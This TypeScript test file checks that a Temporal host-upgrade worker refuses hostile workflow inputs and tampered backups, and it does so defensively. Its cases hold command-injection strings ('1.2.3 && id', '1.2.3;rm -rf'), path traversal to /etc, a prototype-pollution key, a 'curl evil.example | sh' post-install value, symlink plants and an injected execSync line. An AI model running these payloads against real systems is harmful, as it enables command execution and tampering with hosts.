/**
 * The host worker is a trust boundary: whoever can start a workflow on a host's task queue can
 * name a version, bounded options and IDs, and nothing else. These cases bypass the CLI and start
 * workflows straight through the Temporal client with hostile inputs; each must end in a prompt,
 * non-retryable failure that names what was refused, with the host unchanged byte for byte (the
 * gateway still running 0.3.0, same daemon), no request to the release server for the
 * input-validation cases and no connection to any address outside the test's own servers.
 */
import assert from 'node:assert/strict';
import { createHash, randomUUID } from 'node:crypto';
import diagnostics from 'node:diagnostics_channel';
import fs from 'node:fs/promises';
import type { Socket } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { WorkflowFailedError } from '@temporalio/client';
import { ApplicationFailure } from '@temporalio/common';
import * as backup from '../activities/host/backup.js';
import type { UpgradeResult } from '../workflows/types.js';
import type { HostSnapshot } from './fixtures/host/sim-host.js';
import { startDevServer } from '../worker/agent/dev-server.js';
import { activityHistory, type ActivityRecord } from './helpers/history.js';
import { Harness, type HostUnderTest } from './helpers/harness.js';
import { temporalCliPath } from './helpers/temporal.js';

// ------------------------------------------------------------------ every connection this process makes

/** host:port of every TCP connection (net) and every HTTP connection undici opens, in this process. */
const connections = new Set<string>();
diagnostics.subscribe('net.client.socket', (msg) => {
  const socket = (msg as { socket: Socket }).socket;
  socket.once('connect', () => connections.add(`${socket.remoteAddress}:${socket.remotePort}`));
});
diagnostics.subscribe('undici:client:beforeConnect', (msg) => {
  const p = (msg as { connectParams: { hostname: string; port: string | number; protocol: string } }).connectParams;
  connections.add(`${p.hostname}:${p.port || (p.protocol === 'https:' ? 443 : 80)}`);
});

// ------------------------------------------------------------------ what a run left in its history

interface RunRecord {
  ms: number;
  failure: ApplicationFailure;
  result?: UpgradeResult;
  activities: ActivityRecord[];
  workflowTaskFailures: number;
}

// ------------------------------------------------------------------ the hosts and their state

let h: Harness;
let host: HostUnderTest;
let baseline: HostSnapshot;
let baselinePids: number[];
let count = 0;
const simHosts: HostUnderTest[] = [];
/** Other servers this file starts (the embedded dev server). */
const ownServers: string[] = [];

/** Every entry under a folder (relative path → type, mode, digest or link target), for "unchanged" checks. */
async function tree(dir: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  const walk = async (d: string) => {
    for (const name of (await fs.readdir(d).catch(() => [] as string[])).sort()) {
      const abs = path.join(d, name);
      const st = await fs.lstat(abs);
      const rel = path.relative(dir, abs);
      if (st.isSymbolicLink()) out[rel] = `link ${await fs.readlink(abs)}`;
      else if (st.isDirectory()) {
        out[rel] = `dir ${(st.mode & 0o7777).toString(8)}`;
        await walk(abs);
      } else out[rel] = `file ${(st.mode & 0o7777).toString(8)} ${(await fs.readFile(abs)).toString('base64')}`;
    }
  };
  await walk(dir);
  return out;
}

/** The gateway runs 0.3.0, healthy, the same daemon as before; every backed-up file is byte-identical. */
async function assertUnchanged(u: HostUnderTest, snap: HostSnapshot, pids: number[], what: string): Promise<void> {
  assert.deepEqual(await u.sim.snapshot(), snap, `${what}: host files changed`);
  assert.equal(await u.sim.gatewayVersion(), '0.3.0', `${what}: gateway binary`);
  const health = await u.sim.health();
  assert.equal(health?.gateway.state, 'running', `${what}: gateway not running`);
  assert.equal(health?.provenance?.binary_version, '0.3.0', `${what}: gateway version`);
  assert.deepEqual(await u.sim.daemonPids(), pids, `${what}: the gateway daemon was restarted`);
}

/** Starts a workflow straight through the client (as a hostile caller would) and waits for it to fail. */
async function startHostile(
  u: HostUnderTest,
  workflowType: 'upgradeHost' | 'rollbackHost',
  input: unknown,
): Promise<RunRecord> {
  const t0 = Date.now();
  // As the CLI starts it: on the controller's queue, the activities (if any run) on the host's.
  const routed =
    input && typeof input === 'object' && !Array.isArray(input) && !('hostQueue' in input)
      ? { ...input, hostQueue: u.config.taskQueue }
      : input;
  const handle = await h.client.workflow.start(workflowType, {
    taskQueue: h.workflowQueue,
    workflowId: `hostile-${++count}-${randomUUID()}`,
    args: [routed],
    // A run that loops on retries would hit this instead of failing on its own.
    workflowExecutionTimeout: '60s',
  });
  let failure: unknown;
  try {
    const r = await handle.result();
    assert.fail(`${workflowType} completed instead of failing: ${JSON.stringify(r).slice(0, 300)}`);
  } catch (err) {
    failure = err;
  }
  const ms = Date.now() - t0;
  assert.ok(failure instanceof WorkflowFailedError, `expected a failed workflow, got ${String(failure)}`);
  const cause = failure.cause;
  assert.ok(
    cause instanceof ApplicationFailure,
    `the workflow failed with ${cause?.constructor.name}: ${cause?.message}`,
  );
  assert.equal(cause.nonRetryable, true, 'the failure is non-retryable');
  const result = cause.details?.[0] as UpgradeResult | undefined;
  return { ms, failure: cause, result, ...(await activityHistory(handle)) };
}

/** Input refused by the workflow's own schema: no activity ran, nothing was contacted. */
async function assertRefusedInput(rec: RunRecord, names: RegExp): Promise<void> {
  assert.equal(rec.failure.type, 'InvalidInput', rec.failure.message);
  assert.match(rec.failure.message, names);
  assert.deepEqual(rec.activities, [], 'no activity may run for refused input');
  assert.equal(rec.workflowTaskFailures, 0, 'no workflow task failure (no retry loop)');
  assert.ok(rec.ms < 20_000, `refused promptly (took ${rec.ms} ms)`);
  assert.deepEqual(h.releases.requests, [], 'the release server saw no request');
}

/** A refusal by an activity: that activity failed once, non-retryable, with this type; the run failed unchanged. */
function assertActivityRefusal(
  rec: RunRecord,
  activity: string,
  failureType: string,
  message: RegExp,
  allowedBefore: string[],
): void {
  assert.equal(rec.failure.type, 'failed-unchanged', rec.failure.message);
  assert.equal(rec.result?.outcome, 'failed-unchanged');
  assert.match(rec.result?.failure?.error ?? '', message);
  assert.match(rec.failure.message, message);
  const failed = rec.activities.filter((a) => a.failureType !== undefined);
  assert.equal(failed.length, 1, `exactly one activity refused: ${JSON.stringify(rec.activities)}`);
  assert.equal(failed[0]!.type, activity);
  assert.equal(failed[0]!.failureType, failureType);
  assert.equal(failed[0]!.nonRetryable, true);
  assert.equal(failed[0]!.attempt, 1, 'refused on the first attempt, never retried');
  assert.deepEqual(
    rec.activities.map((a) => a.type).filter((t) => t !== activity),
    allowedBefore,
    'only the expected activities ran',
  );
  assert.equal(rec.workflowTaskFailures, 0);
  assert.ok(rec.ms < 30_000, `refused promptly (took ${rec.ms} ms)`);
}

before(async () => {
  h = await Harness.start();
  host = await h.host();
  simHosts.push(host);
  baseline = await host.sim.snapshot();
  baselinePids = await host.sim.daemonPids();
  assert.equal(baselinePids.length, 1);
});

after(async () => {
  await h?.close();
});

// ------------------------------------------------------------------ upgradeHost with hostile input

const UPGRADE_CASES: Array<{ name: string; input: (host: string) => unknown; refused: RegExp }> = [
  {
    name: 'version ../../x',
    input: (n) => ({ host: n, version: '../../x' }),
    refused: /invalid version "\.\.\/\.\.\/x"/,
  },
  {
    name: 'version 1.2.3 && id',
    input: (n) => ({ host: n, version: '1.2.3 && id' }),
    refused: /invalid version "1\.2\.3 && id"/,
  },
  {
    name: 'version 1.2.3;rm -rf',
    input: (n) => ({ host: n, version: '1.2.3;rm -rf' }),
    refused: /invalid version "1\.2\.3;rm -rf"/,
  },
  {
    name: 'version v0.4.0 with a newline',
    input: (n) => ({ host: n, version: 'v0.4.0\n' }),
    refused: /invalid version/,
  },
  {
    name: 'version 0.4.0-rc.1 (not strict)',
    input: (n) => ({ host: n, version: '0.4.0-rc.1' }),
    refused: /invalid version/,
  },
  { name: 'version as a number', input: (n) => ({ host: n, version: 0.4 }), refused: /invalid version/ },
  {
    name: 'an extra field naming a URL (releasesUrl)',
    input: (n) => ({ host: n, version: '0.4.0', releasesUrl: 'http://evil.example:8080' }),
    refused: /invalid input.*"releasesUrl"/,
  },
  {
    name: 'an extra field naming a download URL',
    input: (n) => ({ host: n, downloadUrl: 'https://evil.example/x.tar.gz' }),
    refused: /invalid input.*"downloadUrl"/,
  },
  {
    name: 'an extra field naming a path',
    input: (n) => ({ host: n, version: '0.4.0', dataDir: '/etc' }),
    refused: /invalid input.*"dataDir"/,
  },
  {
    name: 'an extra field naming a command',
    input: (n) => ({ host: n, version: '0.4.0', command: ['/bin/sh', '-c', 'id > /tmp/pwned'] }),
    refused: /invalid input.*"command"/,
  },
  {
    name: 'an own __proto__ key carrying a URL',
    input: (n) => JSON.parse(`{"host":${JSON.stringify(n)},"__proto__":{"releasesUrl":"http://evil.example"}}`),
    refused: /invalid input.*"__proto__"/,
  },
  {
    name: 'a health timeout of 1e9 seconds',
    input: (n) => ({ host: n, options: { healthTimeoutSeconds: 1e9 } }),
    refused: /invalid options\.healthTimeoutSeconds/,
  },
  {
    name: 'a negative confirmation timeout',
    input: (n) => ({ host: n, options: { confirmTimeoutSeconds: -1 } }),
    refused: /invalid options\.confirmTimeoutSeconds/,
  },
  {
    name: 'a fractional health timeout',
    input: (n) => ({ host: n, options: { healthTimeoutSeconds: 1.5 } }),
    refused: /invalid options\.healthTimeoutSeconds/,
  },
  {
    name: 'options with an unknown key (a command)',
    input: (n) => ({ host: n, options: { postInstall: 'curl evil.example | sh' } }),
    refused: /invalid options.*"postInstall"/,
  },
  {
    name: 'options with an unknown key (a URL)',
    input: (n) => ({ host: n, options: { releasesUrl: 'http://evil.example' } }),
    refused: /invalid options.*"releasesUrl"/,
  },
  {
    name: 'onFailure naming something else',
    input: (n) => ({ host: n, options: { onFailure: 'exec' } }),
    refused: /invalid options\.onFailure/,
  },
  {
    name: 'requireConfirmation as a string',
    input: (n) => ({ host: n, options: { requireConfirmation: 'no' } }),
    refused: /invalid options\.requireConfirmation/,
  },
  { name: 'a host name with a path', input: () => ({ host: '../../etc' }), refused: /invalid host "\.\.\/\.\.\/etc"/ },
  { name: 'no host at all', input: () => ({ version: '0.4.0' }), refused: /invalid host/ },
  { name: 'a fleet id with a path', input: (n) => ({ host: n, fleetId: '../../x' }), refused: /invalid fleetId/ },
  {
    name: 'a host queue that is a URL',
    input: (n) => ({ host: n, hostQueue: 'http://evil.example/q' }),
    refused: /invalid hostQueue/,
  },
  {
    name: 'a version that is an object whose toString is not a function',
    input: (n) => ({ host: n, version: [{ toString: 0 }] }),
    refused: /invalid version/,
  },
  {
    name: 'an option that is an object whose toString is not a function',
    input: (n) => ({ host: n, options: { healthTimeoutSeconds: { toString: 0, valueOf: 0 } } }),
    refused: /invalid options\.healthTimeoutSeconds/,
  },
  { name: 'a string instead of an object', input: () => 'upgrade everything', refused: /invalid input/ },
  { name: 'null', input: () => null, refused: /invalid input/ },
  { name: 'an array', input: (n) => [n, '0.4.0'], refused: /invalid input/ },
];

const ROLLBACK_INPUT_CASES: Array<{ name: string; input: (host: string) => unknown; refused: RegExp }> = [
  { name: 'backupId /etc', input: (n) => ({ host: n, backupId: '/etc' }), refused: /invalid backupId "\/etc"/ },
  { name: 'backupId ../..', input: (n) => ({ host: n, backupId: '../..' }), refused: /invalid backupId "\.\.\/\.\."/ },
  {
    name: 'backupId a real-looking name followed by ../..',
    input: (n) => ({ host: n, backupId: 'upgrade-20260101T000000Z/../../..' }),
    refused: /invalid backupId/,
  },
  {
    name: 'backupId with a trailing newline',
    input: (n) => ({ host: n, backupId: 'upgrade-20260101T000000Z\n' }),
    refused: /invalid backupId/,
  },
  { name: 'an empty backupId', input: (n) => ({ host: n, backupId: '' }), refused: /invalid backupId/ },
  {
    name: 'an extra field naming a folder',
    input: (n) => ({ host: n, backupDir: '/tmp/evil-backup' }),
    refused: /invalid input.*"backupDir"/,
  },
  {
    name: 'a health timeout of 1e9 seconds',
    input: (n) => ({ host: n, healthTimeoutSeconds: 1e9 }),
    refused: /invalid healthTimeoutSeconds/,
  },
];

describe('hostile workflow input is refused before anything runs', { concurrency: 4 }, () => {
  for (const c of UPGRADE_CASES) {
    it(`upgradeHost: ${c.name}`, async () => {
      const rec = await startHostile(host, 'upgradeHost', c.input(host.name));
      await assertRefusedInput(rec, c.refused);
      await assertUnchanged(host, baseline, baselinePids, c.name);
    });
  }
  for (const c of ROLLBACK_INPUT_CASES) {
    it(`rollbackHost: ${c.name}`, async () => {
      const backupsBefore = await tree(path.join(host.sim.dataDir, 'backups'));
      const rec = await startHostile(host, 'rollbackHost', c.input(host.name));
      await assertRefusedInput(rec, c.refused);
      await assertUnchanged(host, baseline, baselinePids, c.name);
      assert.deepEqual(await tree(path.join(host.sim.dataDir, 'backups')), backupsBefore);
    });
  }

  it('upgradeHost addressed to a host that is not this worker’s host', async () => {
    const rec = await startHostile(host, 'upgradeHost', { host: 'some-other-host', version: '0.4.0' });
    assertActivityRefusal(rec, 'checkHost', 'HostMismatch', /serves host .* not some-other-host/, []);
    assert.deepEqual(h.releases.requests, [], 'the release server saw no request');
    await assertUnchanged(host, baseline, baselinePids, 'host mismatch');
  });

  it('rollbackHost addressed to a host that is not this worker’s host', async () => {
    const rec = await startHostile(host, 'rollbackHost', { host: 'some-other-host' });
    assertActivityRefusal(rec, 'checkHost', 'HostMismatch', /serves host .* not some-other-host/, []);
    assert.deepEqual(h.releases.requests, [], 'the release server saw no request');
    await assertUnchanged(host, baseline, baselinePids, 'rollback host mismatch');
  });
});

// ------------------------------------------------------------------ rollbackHost with hostile backups

/** A real backup of the host as it is, made by the product's own activity (then tampered with by a case). */
async function realBackup(u: HostUnderTest, backupId: string): Promise<string> {
  await backup.createBackup(u.config, { backupId, fromVersion: '0.3.0' });
  // It verifies before it is tampered with: whatever refuses it later is the tampering.
  const v = await backup.verifyBackup(u.config, { backupId });
  assert.equal(v.fromVersion, '0.3.0');
  return path.join(u.sim.dataDir, 'backups', backupId);
}

// One at a time: each case checks that nothing in backups/ changed.
describe('rollbackHost refuses backups that are not what they claim', { concurrency: 1 }, () => {
  const rollback = async (backupId: string, message: RegExp) => {
    const backupsBefore = await tree(path.join(host.sim.dataDir, 'backups'));
    const rec = await startHostile(host, 'rollbackHost', { host: host.name, backupId, healthTimeoutSeconds: 20 });
    assertActivityRefusal(rec, 'verifyBackup', 'BackupInvalid', message, ['checkHost']);
    await assertUnchanged(host, baseline, baselinePids, backupId);
    // No rollback-* backup was made, nothing in backups/ changed.
    assert.deepEqual(await tree(path.join(host.sim.dataDir, 'backups')), backupsBefore);
    assert.deepEqual(h.releases.requests, [], 'a rollback never contacts the release server');
  };

  it('a symlink inside backups/, named like a backup, to a real backup outside', async () => {
    const id = 'upgrade-20260101T000001Z';
    const dir = await realBackup(host, id);
    const outside = path.join(host.sim.home, 'outside');
    await fs.mkdir(outside, { recursive: true });
    await fs.rename(dir, path.join(outside, id));
    await fs.symlink(path.join(outside, id), dir);
    const outsideBefore = await tree(outside);
    await rollback(id, /backup upgrade-20260101T000001Z is not a real folder/);
    assert.deepEqual(await tree(outside), outsideBefore, 'the folder behind the link was not touched');
  });

  it('a symlink inside backups/ to /etc, named like a backup', async () => {
    const id = 'upgrade-20260101T000002Z';
    await fs.symlink('/etc', path.join(host.sim.dataDir, 'backups', id));
    await rollback(id, /backup upgrade-20260101T000002Z is not a real folder/);
  });

  it('a real backup folder with a tampered file (digest mismatch)', async () => {
    const id = 'upgrade-20260101T000003Z';
    const dir = await realBackup(host, id);
    const file = path.join(dir, 'files', 'data', 'config.yaml');
    const bytes = await fs.readFile(file);
    bytes[10] = bytes[10]! ^ 0x20;
    await fs.writeFile(file, bytes);
    await rollback(id, /files\/data\/config\.yaml does not match its digest/);
  });

  it('a real backup folder whose previous gateway binary was replaced', async () => {
    const id = 'upgrade-20260101T000004Z';
    const dir = await realBackup(host, id);
    await fs.appendFile(path.join(dir, 'defenseclaw-gateway.previous'), '\nrequire("child_process").execSync("id")\n');
    await rollback(id, /defenseclaw-gateway\.previous does not match its digest/);
  });

  it('a backed-up file replaced by a symlink to the live file (same bytes)', async () => {
    const id = 'upgrade-20260101T000005Z';
    const dir = await realBackup(host, id);
    const stored = path.join(dir, 'files', 'data', 'device.key');
    await fs.rm(stored);
    await fs.symlink(path.join(host.sim.dataDir, 'device.key'), stored);
    await rollback(id, /files\/data\/device\.key is missing or not a regular file/);
  });

  it('a manifest whose entry points outside the data dir', async () => {
    const id = 'upgrade-20260101T000006Z';
    const dir = await realBackup(host, id);
    const mfile = path.join(dir, 'manifest.json');
    const m = JSON.parse(await fs.readFile(mfile, 'utf8'));
    m.entries.push({ root: 'data', path: '../../../etc/cron.d/evil', type: 'absent' });
    await fs.writeFile(mfile, JSON.stringify(m));
    await rollback(id, /backup upgrade-20260101T000006Z has an invalid manifest/);
  });

  it('a manifest that names another backup', async () => {
    const id = 'upgrade-20260101T000007Z';
    const dir = await realBackup(host, id);
    const mfile = path.join(dir, 'manifest.json');
    const m = JSON.parse(await fs.readFile(mfile, 'utf8'));
    m.id = 'upgrade-20200101T000000Z';
    await fs.writeFile(mfile, JSON.stringify(m));
    await rollback(id, /manifest names upgrade-20200101T000000Z/);
  });

  it('a backup that does not exist', async () => {
    await rollback('upgrade-20260101T000099Z', /backup upgrade-20260101T000099Z does not exist/);
  });
});

// ------------------------------------------------------------------ upgrades on a host with planted symlinks

describe('an upgrade never follows a symlink it did not create', () => {
  let u: HostUnderTest;
  let snap: HostSnapshot;
  let pids: number[];
  let outside: string;
  before(async () => {
    u = await h.host();
    simHosts.push(u);
    snap = await u.sim.snapshot();
    pids = await u.sim.daemonPids();
    outside = path.join(u.sim.home, 'outside');
    await fs.mkdir(outside, { mode: 0o700 });
  });

  const upgrade = async () => startHostile(u, 'upgradeHost', { host: u.name, version: '0.4.0' });

  it('device.key planted as a symlink: the backup refuses it, before the stop', async () => {
    const key = path.join(u.sim.dataDir, 'device.key');
    const real = path.join(outside, 'device.key');
    await fs.rename(key, real);
    await fs.symlink(real, key);
    const planted = await u.sim.snapshot();
    const rec = await upgrade();
    assert.equal(rec.result?.outcome, 'failed-unchanged');
    const failed = rec.activities.filter((a) => a.failureType);
    assert.deepEqual(
      failed.map((a) => [a.type, a.failureType, a.nonRetryable, a.attempt]),
      [['createBackup', 'UnsafePath', true, 1]],
    );
    assert.match(rec.result!.failure!.error, /refusing to back up device\.key: it is a symlink/);
    assert.ok(!rec.activities.some((a) => a.type === 'stopGateway'), 'the gateway was never stopped');
    await assertUnchanged(u, planted, pids, 'device.key symlink');
    // The key's bytes were not copied anywhere under backups/.
    const keyDigest = createHash('sha256').update(u.sim.deviceKey).digest('hex');
    for (const [rel, v] of Object.entries(await tree(path.join(u.sim.dataDir, 'backups')))) {
      assert.ok(!v.includes(keyDigest), `backups/${rel} holds the key`);
    }
    await fs.rm(key);
    await fs.rename(real, key);
    assert.deepEqual(await u.sim.snapshot(), snap);
  });

  it('staging/ planted as a symlink to a folder outside: refused, nothing written there', async () => {
    const staging = path.join(u.sim.dataDir, 'staging');
    await fs.rm(staging, { recursive: true, force: true });
    const target = path.join(outside, 'staging');
    await fs.mkdir(target);
    await fs.symlink(target, staging);
    const rec = await upgrade();
    assert.equal(rec.result?.outcome, 'failed-unchanged');
    assert.deepEqual(
      rec.activities.filter((a) => a.failureType).map((a) => [a.type, a.failureType, a.nonRetryable, a.attempt]),
      [['createStaging', 'UnsafePath', true, 1]],
    );
    assert.match(rec.result!.failure!.error, /not a real directory/);
    assert.deepEqual(await fs.readdir(target), [], 'nothing was written behind the link');
    await assertUnchanged(u, snap, pids, 'staging symlink');
    await fs.rm(staging);
  });

  it('backups/ planted as a symlink to a folder outside: refused before the stop, nothing written there', async () => {
    const backups = path.join(u.sim.dataDir, 'backups');
    await fs.rm(backups, { recursive: true, force: true });
    const target = path.join(outside, 'backups');
    await fs.mkdir(target);
    await fs.symlink(target, backups);
    const rec = await upgrade();
    assert.equal(rec.result?.outcome, 'failed-unchanged');
    assert.deepEqual(
      rec.activities.filter((a) => a.failureType).map((a) => [a.type, a.failureType, a.nonRetryable, a.attempt]),
      [['createBackup', 'UnsafePath', true, 1]],
    );
    assert.ok(!rec.activities.some((a) => a.type === 'stopGateway'), 'the gateway was never stopped');
    assert.deepEqual(await fs.readdir(target), [], 'nothing was written behind the link');
    await assertUnchanged(u, snap, pids, 'backups symlink');
    await fs.rm(backups);
  });
});

// ------------------------------------------------------------------ local exposure

/** host:port of every TCP socket a process listens on (Linux /proc), e.g. '127.0.0.1:7233'. */
async function listeningSockets(pid: number): Promise<string[]> {
  const inodes = new Set<string>();
  for (const fd of await fs.readdir(`/proc/${pid}/fd`)) {
    const m = /^socket:\[(\d+)\]$/.exec(await fs.readlink(`/proc/${pid}/fd/${fd}`).catch(() => ''));
    if (m) inodes.add(m[1]!);
  }
  const out: string[] = [];
  for (const [file, v6] of [
    ['/proc/net/tcp', false],
    ['/proc/net/tcp6', true],
  ] as const) {
    const text = await fs.readFile(file, 'utf8').catch(() => '');
    for (const line of text.split('\n').slice(1)) {
      const f = line.trim().split(/\s+/);
      if (f.length < 10 || f[3] !== '0A' || !inodes.has(f[9]!)) continue; // 0A: LISTEN
      const [hex, portHex] = f[1]!.split(':') as [string, string];
      const addr = v6
        ? hex === '00000000000000000000000001000000'
          ? '::1'
          : hex === '0000000000000000FFFF00000100007F'
            ? '::ffff:127.0.0.1'
            : `v6:${hex}`
        : hex
            .match(/../g)!
            .reverse()
            .map((b) => parseInt(b, 16))
            .join('.');
      out.push(`${addr}:${parseInt(portHex, 16)}`);
    }
  }
  return out;
}

describe('local exposure', () => {
  it('the embedded dev server and its UI listen on loopback only', async () => {
    const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'dc-hostile-devserver-'));
    const server = await startDevServer({
      cliPath: await temporalCliPath(),
      dbFile: path.join(dir, 'db.sqlite'),
      ui: true,
    });
    try {
      ownServers.push(server.address, `127.0.0.1:${server.uiPort}`);
      assert.ok(server.uiPort, 'the UI is on');
      const sockets = await listeningSockets(server.pid);
      assert.ok(sockets.includes(`127.0.0.1:${server.port}`), `gRPC on loopback: ${sockets.join(', ')}`);
      assert.ok(sockets.includes(`127.0.0.1:${server.uiPort}`), `UI on loopback: ${sockets.join(', ')}`);
      for (const s of sockets)
        assert.match(s, /^(127\.\d+\.\d+\.\d+|::1|::ffff:127\.0\.0\.1):\d+$/, `${s} is not loopback`);
      assert.match(server.address, /^127\.0\.0\.1:/);
      assert.match(server.uiUrl ?? '', /^http:\/\/(127\.0\.0\.1|localhost):/);
    } finally {
      await server.stop();
      await fs.rm(dir, { recursive: true, force: true });
    }
    await assert.rejects(
      startDevServer({
        cliPath: await temporalCliPath(),
        dbFile: path.join(dir, 'x.sqlite'),
        ip: '0.0.0.0' as '127.0.0.1',
      }),
      /binds 127\.0\.0\.1 only/,
    );
  });
});

// ------------------------------------------------------------------ the network, over the whole file

describe('network', () => {
  it('no connection to any address but the test’s own servers', () => {
    const allowed = new Set([
      ...h.releases.allowedHosts,
      h.env.address.replace(/^localhost:/, '127.0.0.1:'),
      ...simHosts.map((s) => `127.0.0.1:${s.sim.port}`),
      ...ownServers,
    ]);
    for (const c of connections) {
      assert.ok(allowed.has(c), `unexpected connection to ${c} (allowed: ${[...allowed].join(', ')})`);
    }
    // The recorder works: it saw the release server (third suite) and the gateways' /health.
    assert.ok(connections.has(h.releases.allowedHosts[0]!), 'the recorder saw the release server');
    assert.ok(connections.has(`127.0.0.1:${host.sim.port}`), 'the recorder saw the gateway');
  });
});
